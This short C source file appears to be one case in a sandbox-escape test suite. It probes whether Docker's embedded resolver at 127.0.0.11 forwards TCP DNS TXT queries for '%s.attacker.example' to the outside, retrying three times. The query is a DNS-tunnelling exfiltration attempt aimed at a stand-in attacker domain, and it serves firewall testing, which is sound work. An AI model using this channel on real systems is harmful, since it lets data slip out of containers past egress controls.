// SPDX-License-Identifier: Apache-2.0
/* The embedded resolver of docker forwards from the host whatever it is asked. */
#include "../case.h"

static void attempt(const struct target *t, struct attempt *a)
{
	/* dockerd loses some when it is busy; who wants out asks again. */
	for (int i = 0; i < 3; i++)
		dns_tell(t, a, SOCK_STREAM, "127.0.0.11", 53, "%s.attacker.example", DNS_TXT);
}

CASE(dns_engine_tcp) = { .title = "docker's resolver 127.0.0.11 by TCP",
			 .source = "field A5: gh-aw-firewall #1270; bpf.md surprise 5",
			 .group = "resolver",
			 .families = FOUR,
			 .settings = BRIDGE | NONE,
			 .attempt = attempt };
